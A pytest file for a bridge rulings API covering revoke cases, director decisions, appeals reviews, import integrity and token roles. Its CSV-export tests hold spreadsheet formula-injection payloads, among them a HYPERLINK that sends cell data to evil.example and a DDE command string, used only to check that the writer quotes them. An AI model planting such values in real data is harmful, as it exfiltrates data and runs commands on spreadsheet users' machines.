"""The case file through the API (issue 14): a ruling kept as a case, the director's decision,
the appeals committee's review, the history, the re-run, the ruling log and export / import,
and who may do what; on SQLite and PostgreSQL.

The case is Sponvo30.pbn board 21 (1997 European Team Championship), ruled from the facts as in
tests/api/test_table_flow.py: 4H by West, North-South vulnerable, South revoked at trick 3 (won by
West) and North-South won 5 tricks after it; table result 8 (4H W -2, North-South +100, East-West
not vulnerable); 64A2 transfers one trick: 4H W -1, North-South +50 suggested. Facts only: the
solver is never called, so these tests are quick.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.api.case_format import Number, cell
from app.main import create_app
from app.storage import open_repository
from app.storage.cases import SqlUserRepository
from engine.casefile.cases import NewCase
from engine.casefile.users import OPEN_MODE, Role
from engine.dd import SolverRunner
from tests.api.test_events import error, hand_record_file, new_event, upload
from tests.helpers import SPONVO30_DEAL, SPONVO30_PLAY
from tests.people import people_in

FACTS = {"trick": 3, "offender": "S", "revoke_trick_won_by": "W", "offending_side_tricks_after": 5}
PAIRS = {"ns": {"number": "12", "names": "Open room North-South"}, "ew": {"number": "3"}}


def case_body(event: int, **changes: Any) -> dict[str, Any]:
    return {"event": event, "board": "21", "round": "30", "table": "4", "pairs": PAIRS,
            "director": "Jan Kowalski", "contract": "4H", "declarer": "W", "table_result": 8,
            "revoke_facts": FACTS} | changes


REVIEW = {"outcome": "uphold", "members": ["A. Wilson (chair)", "B. Nowak", "C. Petrov"],
          "reasons": "The revoke was established when North played to trick 4 (63A1).", "deposit": "kept"}


@pytest.fixture
def event(client: TestClient) -> int:
    event_id = new_event(client)
    assert upload(client, event_id, hand_record_file()).status_code == 200
    return event_id


def created(client: TestClient, body: dict[str, Any], **headers: str) -> int:
    r = client.post("/v1/cases", json=body, headers=headers)
    assert r.status_code == 201, r.text
    assert r.headers["location"] == f"/v1/cases/{r.json()['id']}"
    case_id: int = r.json()["id"]
    return case_id


def test_a_case_keeps_the_request_and_the_ruling_and_records_decision_and_review(client: TestClient,
                                                                                event: int) -> None:
    r = client.post("/v1/cases", json=case_body(event))
    assert r.status_code == 201, r.text
    ruling = r.json()["ruling"]
    assert ruling["suggested"] == {"declarer_tricks": 9, "result": "4H W -1", "score_ns": 50, "law": "64A2",
                                   "provisional": False}
    case_id = r.json()["id"]
    case = client.get(f"/v1/cases/{case_id}").json()
    assert case["ruling"] == ruling and case["status"] == "awaiting decision"
    assert case["request"]["revoke_facts"] == FACTS and case["request"]["table_result"] == 8
    assert (case["suggested_ns"], case["table_ns"], case["laws_edition"]) == (50, 100, "2017")
    assert (case["board"], case["round"], case["table"], case["pairs"]["ns"]["names"]) == \
        ("21", "30", "4", "Open room North-South")
    assert case["decision"] is None and case["final"] is None

    r = client.post(f"/v1/cases/{case_id}/decision", json={"score_ns": 50, "result": "4H W -1", "law": "64A2"})
    assert r.status_code == 200, r.text
    assert r.json()["decision"]["differs_from_suggestion"] is False and r.json()["status"] == "decided"
    r = client.post(f"/v1/cases/{case_id}/reviews", json=REVIEW)
    assert r.status_code == 200, r.text
    case = r.json()
    assert case["status"] == "reviewed: uphold" and case["final"]["score_ns"] == 50
    assert case["reviews"][0]["members"] == REVIEW["members"] and case["reviews"][0]["deposit"] == "kept"

    history = client.get(f"/v1/cases/{case_id}/history").json()
    assert [(h["seq"], h["action"]) for h in history] == [(1, "created"), (2, "decision"), (3, "review")]
    assert history[1]["change"]["score_ns"] == 50 and history[2]["change"]["outcome"] == "uphold"
    assert {h["actor"] for h in history} == {"open mode (no tokens configured)"}


def test_a_score_other_than_the_suggestion_needs_a_reason(client: TestClient, event: int) -> None:
    case_id = created(client, case_body(event))
    two_down = {"score_ns": 100, "result": "4H W -2", "law": "64B2"}
    r = client.post(f"/v1/cases/{case_id}/decision", json=two_down)
    error(r, 422, ["body", "reason"], "the score entered (+100) differs from the advisor's proposal (+50)",
          "give the reason")
    r = client.post(f"/v1/cases/{case_id}/decision", json=two_down | {"reason": "North led before South played"})
    assert r.status_code == 200 and r.json()["decision"]["differs_from_suggestion"] is True
    # weighted (12C1(c)): 70% of +50 and 30% of 4H W = (-620) is -151
    weighted = {"score_ns": -151, "result": "weighted", "law": "12C1(c)", "reason": "a club switch 30%",
                "weighted": [{"result": "4H W -1", "score_ns": 50, "percent": 70},
                             {"result": "4H W =", "score_ns": -620, "percent": 30}]}
    r = client.post(f"/v1/cases/{case_id}/decision", json=weighted)
    assert r.status_code == 200 and r.json()["final"]["score_ns"] == -151
    r = client.post(f"/v1/cases/{case_id}/decision", json=weighted | {"score_ns": -150.4})
    error(r, 422, ["body", "score_ns"], "give -151.00, not -150.4")
    for bad, loc in (({"score_ns": "50"}, ["body", "score_ns"]), ({"score_ns": True}, ["body", "score_ns"]),
                     ({"score_ns": 50, "artificial": {"NS": "60%"}}, ["body", "artificial"])):
        r = client.post(f"/v1/cases/{case_id}/decision", json=bad)
        assert r.status_code == 422 and any(d["loc"] == loc for d in r.json()["detail"]), (bad, r.text)
    assert len(client.get(f"/v1/cases/{case_id}/history").json()) == 3  # refused decisions leave no entry


def test_reviews_follow_the_decision_and_freeze_it(client: TestClient, event: int) -> None:
    case_id = created(client, case_body(event))
    error(client.post(f"/v1/cases/{case_id}/reviews", json=REVIEW), 409, [], "no decision of the director yet")
    client.post(f"/v1/cases/{case_id}/decision", json={"score_ns": 50, "result": "4H W -1", "law": "64A2"})
    r = client.post(f"/v1/cases/{case_id}/reviews", json=REVIEW | {"outcome": "vary"})
    error(r, 422, ["body", "score_ns"], "needs the committee's score")
    varied = REVIEW | {"outcome": "vary", "score_ns": -620, "result": "4H W =", "law": "64C",
                       "deposit": "returned"}
    r = client.post(f"/v1/cases/{case_id}/reviews", json=varied)
    assert r.status_code == 200 and r.json()["final"] == {"score_ns": -620, "result": "4H W =", "law": "64C",
                                                           "score_ew": None, "weighted": [], "artificial": None,
                                                           "table_result_kept_by": None}
    r = client.post(f"/v1/cases/{case_id}/decision", json={"score_ns": 50, "result": "4H W -1", "law": "64A2"})
    error(r, 409, [], "reviewed by the appeals committee")
    r = client.post(f"/v1/cases/{case_id}/reviews", json=REVIEW | {"outcome": "cancel"})
    assert r.json()["final"]["score_ns"] == 100 and len(r.json()["reviews"]) == 2  # added, never written over


def test_unknown_event_case_and_bad_case_fields(client: TestClient, event: int) -> None:
    error(client.post("/v1/cases", json=case_body(event + 100)), 422, ["body", "event"], f"no event {event + 100}")
    error(client.get("/v1/cases/999"), 404, ["path", "case_id"], "there is no case 999")
    r = client.post("/v1/cases", json=case_body(event, director="", pairs={"ns": {"number": "12"}}))
    locs = {tuple(d["loc"]) for d in r.json()["detail"]}
    assert r.status_code == 422 and {("body", "director"), ("body", "pairs", "ew")} <= locs
    r = client.post("/v1/cases", json=case_body(event, board="30"))
    error(r, 422, ["body", "board"], "board 30 is not in event")
    r = client.post("/v1/cases", json=case_body(event, revoke_facts=FACTS | {"trick": 13}))
    assert r.status_code == 422 and r.json()["detail"][0]["loc"][:2] == ["body", "revoke_facts"]
    assert client.get(f"/v1/cases?event={event}").json() == []  # nothing refused was kept


def test_a_case_from_a_pasted_game_belongs_to_the_chosen_event(client: TestClient, event: int) -> None:
    parts = {"deal": SPONVO30_DEAL, "contract": "4H", "declarer": "W", "vulnerable": "NS",
             "play": list(SPONVO30_PLAY)[:12], "table_result": 8}
    body = {k: v for k, v in case_body(event).items() if k not in ("contract", "declarer", "table_result",
                                                                    "revoke_facts")} | parts
    case_id = created(client, body)
    case = client.get(f"/v1/cases/{case_id}").json()
    assert case["event"] == event and "event" not in case["request"]
    assert case["ruling"]["suggested"]["result"] == "4H W -1"


def test_rerun_reports_what_a_new_engine_changes_and_keeps_the_stored_ruling(client: TestClient,
                                                                             event: int) -> None:
    case_id = created(client, case_body(event))
    r = client.post(f"/v1/cases/{case_id}/rerun")
    assert r.status_code == 200 and r.json()["same"] is True and r.json()["differences"] == []
    # A case ruled by an older engine that (wrongly) transferred two tricks under 64A1, as it was
    # stored then (an import would refuse it now: tests/api/test_case_file.py::test_an_import_cannot_forge...).
    mine = client.app.state.cases.get_case(case_id).data  # type: ignore[attr-defined]
    ruling = json.loads(json.dumps(mine.ruling))
    ruling["engine_version"] = "0.0.9"
    ruling["revokes"][0] |= {"law": "64A1", "tricks_transferred": 2}
    ruling["suggested"] |= {"declarer_tricks": 10, "result": "4H W =", "score_ns": -420, "law": "64A1"}
    old = NewCase(mine.details, mine.kind, mine.request, ruling, "0.0.9", mine.laws_edition, -420, mine.table_ns)
    new_id = client.app.state.cases.create_case(old, OPEN_MODE).id  # type: ignore[attr-defined]
    r = client.post(f"/v1/cases/{new_id}/rerun")
    out = r.json()
    assert out["same"] is False and out["engine_version_stored"] == "0.0.9"
    found = {d["path"]: (d["stored"], d["now"]) for d in out["differences"]}
    assert found["revokes/0/law"] == ("64A1", "64A2") and found["revokes/0/tricks_transferred"] == (2, 1)
    assert found["suggested/score_ns"] == (-420, 50)
    assert client.get(f"/v1/cases/{new_id}").json()["ruling"]["suggested"]["score_ns"] == -420  # never silently
    history = client.get(f"/v1/cases/{new_id}/history").json()
    assert [h["action"] for h in history] == ["created", "rerun"]
    assert history[-1]["change"]["same"] is False


def test_import_checks_every_history_entry_and_stores_nothing_when_one_is_wrong(client: TestClient,
                                                                                event: int) -> None:
    case_id = created(client, case_body(event))
    export = client.get(f"/v1/events/{event}/cases.json").json()
    review = {"seq": 2, "at": "1997-06-26T18:00:00Z", "actor": "A. Wilson", "role": "committee",
              "action": "review", "change": REVIEW | {"score": None}}
    export["cases"][0]["history"].append(review)
    r = client.post("/v1/cases/import", json=export)
    error(r, 422, ["body", "cases", 0, "history", 1], "history entry 2", "no decision of the director yet")
    assert len(client.get("/v1/cases").json()) == 1 and case_id == 1


def test_the_ruling_log_is_a_csv_line_per_case_by_board(client: TestClient, event: int) -> None:
    late = created(client, case_body(event, table="9"))
    early = created(client, case_body(event, board="3", contract="3NT", declarer="S", table_result=9,
                                      revoke_facts={"trick": 2, "offender": "E", "revoke_trick_won_by": "S",
                                                    "offending_side_tricks_after": 3}))
    client.post(f"/v1/cases/{late}/decision", json={"score_ns": 50, "result": "4H W -1", "law": "64A2"})
    client.post(f"/v1/cases/{late}/reviews", json=REVIEW | {"outcome": "vary", "score_ns": -620,
                                                           "result": "4H W =", "law": "64C"})
    r = client.get(f"/v1/events/{event}/rulings.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [(x["case"], x["board"]) for x in rows] == [(str(early), "3"), (str(late), "21")]
    assert rows[0]["status"] == "awaiting decision" and rows[0]["final_score_ns"] == ""
    line = rows[1]
    assert (line["table"], line["suggested_score_ns"], line["decision_score_ns"], line["review"],
            line["review_score_ns"], line["final_score_ns"], line["final_result"]) == \
        ("9", "50", "50", "vary", "-620", "-620", "4H W =")
    assert client.get(f"/v1/cases?event={event}&board=21").json()[0]["id"] == late


def test_the_ruling_log_writes_text_a_spreadsheet_would_run_as_a_formula_as_text(client: TestClient,
                                                                                 event: int) -> None:
    # OWASP's CSV injection rule: a text cell starting with = + - @ tab or CR gets a leading quote;
    # the figures (scores, the case id) are written from the stored numbers and stay numbers.
    link = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    body = case_body(event, director=link, table="-3", round="+30",
                     pairs={"ns": {"number": "12", "names": "+cmd|' /C calc'!A0"}, "ew": {"number": "@3"}})
    case_id = created(client, body)
    r = client.post(f"/v1/cases/{case_id}/decision", json={"score_ns": -100, "result": "4H W -2", "law": "12C1(b)",
                                                          "reason": "@SUM(1+1)"})
    assert r.status_code == 200, r.text
    assert client.get(f"/v1/cases/{case_id}").json()["director"] == link  # kept as given; only the CSV quotes it
    line = next(csv.DictReader(io.StringIO(client.get(f"/v1/events/{event}/rulings.csv").text)))
    assert (line["director"], line["reason"], line["ns_names"], line["ew_pair"], line["table"], line["round"]) == \
        ("'" + link, "'@SUM(1+1)", "'+cmd|' /C calc'!A0", "'@3", "'-3", "'+30")
    assert (line["decision_score_ns"], line["final_score_ns"], line["suggested_score_ns"], line["case"]) == \
        ("-100", "-100", "50", str(case_id))  # numbers, not neutralised
    assert line["decision_result"] == "4H W -2" and line["imported"] == ""
    page = client.get(f"/events/{event}/rulings.csv").text  # the page's download: the same writer
    assert "'=HYPERLINK" in page and "'@SUM(1+1)" in page
    # A tab or a carriage return at the start (the case's fields are trimmed, so straight to the writer):
    assert [cell(x) for x in ("\tx", "\rx", "-", "4H W -1", "")] == ["'\tx", "'\rx", "'-", "4H W -1", ""]
    assert [cell(Number(-100)), cell(Number(-150.5)), cell(7)] == ["-100", "-150.5", "7"]
    assert [cell(x) for x in ("a;=b", "a, -1", "a; @b;+c", "4H W -1", "5,4")] == \
        ["a;'=b", "a, '-1", "a; '@b;'+c", "4H W -1", "5,4"]


def test_a_cell_with_a_semicolon_stays_one_cell_where_a_spreadsheet_splits_on_semicolons(client: TestClient,
                                                                                       event: int) -> None:
    # Issue 35: "Kowalski;=HYPERLINK(...)" reached rulings.csv bare: a spreadsheet set for Polish,
    # Russian or Greek splits on ";" and ran the second half.
    names = 'Kowalski;=HYPERLINK("http://evil.example/","x")'
    case_id = created(client, case_body(event, pairs={"ns": {"number": "12", "names": names}, "ew": {"number": "3"}}))
    r = client.post(f"/v1/cases/{case_id}/decision", json={"score_ns": -100, "result": "4H W -2", "law": "12C1(b)",
                                                          "reason": "two tricks"})
    assert r.status_code == 200, r.text
    for url in (f"/v1/events/{event}/rulings.csv", f"/v1/events/{event}/adjusted.csv"):
        text = client.get(url).text
        for row in csv.reader(io.StringIO(text), delimiter=";"):  # as a ";" spreadsheet reads it
            assert not any(f.lstrip().startswith(("=", "+", "@")) for f in row), (url, row)
    line = next(csv.DictReader(io.StringIO(client.get(f"/v1/events/{event}/rulings.csv").text)))
    assert line["ns_names"] == names.replace(";=", ";'=") and line["decision_score_ns"] == "-100"


@pytest.fixture
def tokens(database_url: str) -> dict[str, str]:
    """Three token holders in ``database_url``: role -> token (a new SQLite file is a copy of a
    template made once: tests/people.py)."""
    people = (("Jan Kowalski", Role.DIRECTOR), ("Anna Wilson", Role.COMMITTEE), ("Piotr Viewer", Role.VIEWER))
    by_name = people_in(database_url, people)
    return {role.value: by_name[name] for name, role in people}


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def test_with_tokens_configured_each_role_does_its_part(dds: SolverRunner, database_url: str,
                                                        tokens: dict[str, str]) -> None:
    director, committee, viewer = (bearer(tokens[r]) for r in ("director", "committee", "viewer"))
    with TestClient(create_app(dds, database_url=database_url), raise_server_exceptions=False) as c:
        r = c.post("/v1/events", json={"name": "Spring Pairs", "date": "2026-04-05"})
        assert r.status_code == 401 and r.headers["www-authenticate"] == "Bearer"
        r = c.post("/v1/events", json={"name": "Spring Pairs", "date": "2026-04-05"}, headers=viewer)
        error(r, 403, ["header", "Authorization"], "Piotr Viewer is a viewer", "needs the role director")
        event = c.post("/v1/events", json={"name": "Spring Pairs", "date": "2026-04-05"}, headers=director).json()["id"]
        c.post(f"/v1/events/{event}/hand-records", headers=director,
               files={"file": ("h.pbn", hand_record_file().encode("latin-1"))})
        error(c.post("/v1/cases", json=case_body(event)), 401, ["header", "Authorization"], "sign in")
        error(c.post("/v1/cases", json=case_body(event), headers=committee), 403, ["header", "Authorization"])
        case_id = created(c, case_body(event), **director)
        error(c.get(f"/v1/cases/{case_id}"), 401, ["header", "Authorization"])
        error(c.get(f"/v1/events/{event}/rulings.csv"), 401, ["header", "Authorization"])
        assert c.get(f"/v1/cases/{case_id}", headers=viewer).status_code == 200
        decision = {"score_ns": 50, "result": "4H W -1", "law": "64A2"}
        error(c.post(f"/v1/cases/{case_id}/decision", json=decision, headers=committee), 403,
              ["header", "Authorization"], "Anna Wilson is a committee")
        assert c.post(f"/v1/cases/{case_id}/decision", json=decision, headers=director).status_code == 200
        error(c.post(f"/v1/cases/{case_id}/reviews", json=REVIEW, headers=director), 403,
              ["header", "Authorization"], "needs the role committee")
        assert c.post(f"/v1/cases/{case_id}/reviews", json=REVIEW, headers=committee).status_code == 200
        history = c.get(f"/v1/cases/{case_id}/history", headers=viewer).json()
        assert [(h["action"], h["actor"], h["role"]) for h in history] == [
            ("created", "Jan Kowalski", "director"), ("decision", "Jan Kowalski", "director"),
            ("review", "Anna Wilson", "committee")]
        forged = tokens["director"][:-4] + "AAAA"
        error(c.get(f"/v1/cases/{case_id}", headers=bearer(forged)), 401, ["header", "Authorization"], "not valid")
        error(c.post("/v1/rulings/revoke", json={}), 401, ["header", "Authorization"])


def test_an_import_cannot_forge_a_committee_review_or_a_ruling(dds: SolverRunner, database_url: str,
                                                               tokens: dict[str, str]) -> None:
    # A director alone edits an export so that a case reads "reviewed: uphold" by a committee that
    # never sat, or carries a better suggestion: the import refuses the edits it can check and
    # marks what it cannot (the review's author and time are the export's word, not the service's).
    director = bearer(tokens["director"])
    with TestClient(create_app(dds, database_url=database_url), raise_server_exceptions=False) as c:
        event = c.post("/v1/events", json={"name": "Spring Pairs", "date": "2026-04-05"}, headers=director).json()["id"]
        c.post(f"/v1/events/{event}/hand-records", headers=director,
               files={"file": ("h.pbn", hand_record_file().encode("latin-1"))})
        case_id = created(c, case_body(event), **director)
        decided = c.post(f"/v1/cases/{case_id}/decision", headers=director,
                         json={"score_ns": 50, "result": "4H W -1", "law": "64A2"})
        assert decided.status_code == 200
        decided_at = dt.datetime.fromisoformat(decided.json()["decision"]["recorded"]["at"])
        genuine = c.get(f"/v1/events/{event}/cases.json", headers=director).json()

        def forged(at: dt.datetime, **ruling: Any) -> dict[str, Any]:
            export = json.loads(json.dumps(genuine))
            case = export["cases"][0]
            case["history"].append({"seq": 3, "at": at.isoformat(), "actor": "Appeals committee",
                                    "role": "committee", "action": "review",
                                    "change": REVIEW | {"members": ["Appeals committee"], "score": None}})
            if ruling:
                case["ruling"]["suggested"] |= ruling
                case["suggested_ns"] = ruling["score_ns"]
            return export

        def refused(export: dict[str, Any], loc: list[Any], *words: str) -> None:
            r = c.post("/v1/cases/import", json=export, headers=director)
            error(r, 422, loc, f"case {case_id}", *words)

        # The review dated before the decision it reviews: a history does not go back in time.
        refused(forged(decided_at - dt.timedelta(hours=1)), ["body", "cases", 0, "history", 2, "at"],
                "history entry 3", "before the entry above it")
        # Dated after the import (the clock allows 5 minutes).
        refused(forged(dt.datetime.now(dt.UTC) + dt.timedelta(days=1)), ["body", "cases", 0, "history", 2, "at"],
                "after this import")
        # A better suggestion for North-South (4H W -2, +100: no trick transferred) on the same request:
        # the engine rules 4H W -1, +50 (64A2: the revoke trick was won by West, not the offending
        # side, which won a later trick: one trick transferred, 8 + 1 = 9 tricks).
        refused(forged(decided_at + dt.timedelta(minutes=1), declarer_tricks=8, result="4H W -2", score_ns=100),
                ["body", "cases", 0, "ruling"], "board 21", "not what this engine", "suggested_ns (100 stored, 50 now)")
        assert [x["id"] for x in c.get("/v1/cases", headers=director).json()] == [case_id]  # nothing stored

        # What cannot be checked is marked: the review is the importer's, made now, with the committee
        # named only as the export's word.
        r = c.post("/v1/cases/import", json=forged(decided_at + dt.timedelta(minutes=1)), headers=director)
        assert r.status_code == 201, r.text
        new_id = r.json()["cases"][str(case_id)]
        case = c.get(f"/v1/cases/{new_id}", headers=director).json()
        # Issue 35: the export's decision and review are kept, never the case's status: no committee sat here.
        assert case["status"] == "imported, not verified" and case["created_by"] == "Jan Kowalski"
        assert case["decision"] is None and case["reviews"] == [] and case["final"] is None
        assert [(u["seq"], u["action"], u["original_by"], u["original_role"]) for u in case["unverified"]] == \
            [(2, "decision", "Jan Kowalski", "director"), (3, "review", "Appeals committee", "committee")]
        history = c.get(f"/v1/cases/{new_id}/history", headers=director).json()
        assert [(h["action"], h["actor"], h["role"], h["imported"], h["original_actor"], h["original_role"])
                for h in history] == [
            ("created", "Jan Kowalski", "director", True, "Jan Kowalski", "director"),
            ("decision", "Jan Kowalski", "director", True, "Jan Kowalski", "director"),
            ("review", "Jan Kowalski", "director", True, "Appeals committee", "committee"),
            ("imported", "Jan Kowalski", "director", False, None, None)]
        assert dt.datetime.fromisoformat(history[1]["original_at"]) == decided_at
        assert dt.datetime.fromisoformat(history[2]["original_at"]) == decided_at + dt.timedelta(minutes=1)
        assert history[2]["at"] == history[3]["at"]  # the import's own time, not the export's
        assert "imported_from" not in history[2]["change"]
        log = next(csv.DictReader(io.StringIO(c.get(f"/v1/events/{r.json()['event']}/rulings.csv",
                                                    headers=director).text)))
        assert log["imported"].startswith("imported by Jan Kowalski at ")
        assert (log["status"], log["review"], log["final_score_ns"]) == ("imported, not verified", "", "")
        adjusted = c.get(f"/v1/events/{r.json()['event']}/adjusted.csv", headers=director).text
        assert len(adjusted.strip().splitlines()) == 1  # nothing decided here: nothing for the scorer
        # Only a holder of that role here sets the status: the director decides here, then it is decided.
        mine = c.post(f"/v1/cases/{new_id}/decision", headers=director,
                      json={"score_ns": 50, "result": "4H W -1", "law": "64A2"})
        assert mine.status_code == 200, mine.text
        assert mine.json()["status"] == "decided" and len(mine.json()["unverified"]) == 2


def test_a_genuine_export_imports_again_keeping_its_first_origin(client: TestClient, event: int) -> None:
    case_id = created(client, case_body(event))
    client.post(f"/v1/cases/{case_id}/decision", json={"score_ns": 50, "result": "4H W -1", "law": "64A2"})
    client.post(f"/v1/cases/{case_id}/reviews", json=REVIEW)
    first = client.post("/v1/cases/import", json=client.get(f"/v1/events/{event}/cases.json").json())
    assert first.status_code == 201, first.text
    again = client.post("/v1/cases/import",
                        json=client.get(f"/v1/events/{first.json()['event']}/cases.json").json())
    assert again.status_code == 201, again.text
    history = client.get(f"/v1/cases/{again.json()['cases'][str(first.json()['cases'][str(case_id)])]}/history").json()
    original = client.get(f"/v1/cases/{case_id}/history").json()
    assert [h["action"] for h in history] == ["created", "decision", "review", "imported", "imported"]
    assert all(h["imported"] for h in history[:4]) and not history[4]["imported"]
    assert [h["original_at"] for h in history[:3]] == [h["at"] for h in original]  # the first origin, kept


def test_tokens_are_stored_only_hashed_and_a_revoked_one_stops_working(database_url: str,
                                                                       tokens: dict[str, str]) -> None:
    from sqlalchemy import text

    repo = open_repository(database_url)
    try:
        with repo.engine.connect() as c:
            stored = [row[0] for row in c.execute(text("SELECT token_hash FROM users"))]
        assert len(stored) == 3 and all(h.startswith("$argon2id$") for h in stored)
        assert not any(t in h for t in tokens.values() for h in stored)
        users = SqlUserRepository(repo.engine)
        assert users.deactivate("Piotr Viewer") and not users.deactivate("Piotr Viewer")
        from app.service.auth import Access

        access = Access(users, require_tokens=False)
        assert access.holder(tokens["viewer"]) is None
        holder = access.holder(tokens["director"])
        assert holder is not None and holder.name == "Jan Kowalski"
        assert access.is_open("127.0.0.1") is False  # tokens configured: never open
    finally:
        repo.close()


def test_laptop_mode_is_open_only_on_this_machine(dds: SolverRunner, database_url: str) -> None:
    app = create_app(dds, database_url=database_url)
    with TestClient(app, raise_server_exceptions=False, client=("127.0.0.1", 50000)) as local:
        assert local.get("/v1/cases").status_code == 200
    with TestClient(app, raise_server_exceptions=False, client=("192.0.2.7", 50000)) as remote:
        error(remote.get("/v1/cases"), 401, ["header", "Authorization"], "sign in")
    with TestClient(create_app(dds, database_url=database_url, require_tokens=True),
                    raise_server_exceptions=False, client=("127.0.0.1", 50000)) as served:
        error(served.post("/v1/events", json={"name": "x", "date": "2026-01-01"}), 401, ["header", "Authorization"])


def test_advisor_users_add_prints_the_token_once_on_its_own_line(dds: SolverRunner, tmp_path: Any,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    from app.cli import main

    url = f"sqlite:///{tmp_path / 'advisor.sqlite3'}"
    assert main(["users", "--database", url, "add", "Jan Kowalski", "--role", "director"]) == 0
    out, err = capsys.readouterr()
    token = out.strip()
    assert out.count("\n") == 1 and token.startswith("adv_") and "shown once" in err
    assert main(["users", "--database", url, "add", "Jan Kowalski", "--role", "viewer"]) == 2
    assert "already a user named 'Jan Kowalski'" in capsys.readouterr().err
    assert main(["users", "--database", url, "list"]) == 0
    listed = capsys.readouterr().out
    assert "Jan Kowalski" in listed and "director" in listed and token not in listed
    with TestClient(create_app(dds, database_url=url), raise_server_exceptions=False) as c:
        assert c.get("/v1/cases").status_code == 401  # a token exists: the service is no longer open
        assert c.get("/v1/cases", headers=bearer(token)).status_code == 200
    assert main(["users", "--database", url, "revoke", "Jan Kowalski"]) == 0
    with TestClient(create_app(dds, database_url=url), raise_server_exceptions=False) as c:
        assert c.get("/v1/cases", headers=bearer(token)).status_code == 401


def test_the_database_refuses_to_rewrite_or_delete_a_case_or_its_history(client: TestClient, event: int,
                                                                          database_url: str) -> None:
    from sqlalchemy import text
    from sqlalchemy.exc import DBAPIError

    case_id = created(client, case_body(event))
    repo = open_repository(database_url)
    try:
        for statement in (f"UPDATE case_history SET actor = 'someone else' WHERE case_id = {case_id}",
                          f"DELETE FROM case_history WHERE case_id = {case_id}",
                          f"UPDATE cases SET director = 'someone else' WHERE id = {case_id}",
                          f"DELETE FROM cases WHERE id = {case_id}"):
            with pytest.raises(DBAPIError, match="append-only"), repo.engine.begin() as c:
                c.execute(text(statement))
    finally:
        repo.close()
    case = client.get(f"/v1/cases/{case_id}").json()
    assert case["director"] == "Jan Kowalski" and client.get(f"/v1/cases/{case_id}/history").json()[0]["seq"] == 1


def test_law_68_a_case_stored_before_how_play_ended_was_asked_reruns_as_it_was_ruled(client: TestClient,
                                                                                     event: int) -> None:
    # Issue 24: a record stopping before trick 13 now needs table_result, a claim figure or
    # rest_valued_double_dummy. A case stored before (its request has none, its ruling valued the
    # 4 tricks not played double dummy: claim.assumed) re-runs the way it was ruled, labelled.
    body = case_body(event, revoke_facts=None, table_result=None, play=list(SPONVO30_PLAY),
                     rest_valued_double_dummy=True)
    case_id = created(client, {k: v for k, v in body.items() if v is not None})
    export = client.get(f"/v1/events/{event}/cases.json").json()
    old = export["cases"][0]
    del old["request"]["rest_valued_double_dummy"]  # as an older engine stored it
    assert old["ruling"]["claim"]["assumed"] is True
    r = client.post("/v1/cases/import", json=export)
    assert r.status_code == 201, r.text
    new_id = r.json()["cases"][str(case_id)]
    out = client.post(f"/v1/cases/{new_id}/rerun")
    assert out.status_code == 200, out.text
    assert out.json()["same"] is True
    claim_step = next(s for s in out.json()["ruling"]["steps"] if s["law"] == "68")
    assert claim_step["key"] == "claim_dd" and "claim_declarer_tricks" in claim_step["text"]
    assert "rest_valued_double_dummy" not in client.get(f"/v1/cases/{new_id}").json()["request"]  # kept as stored
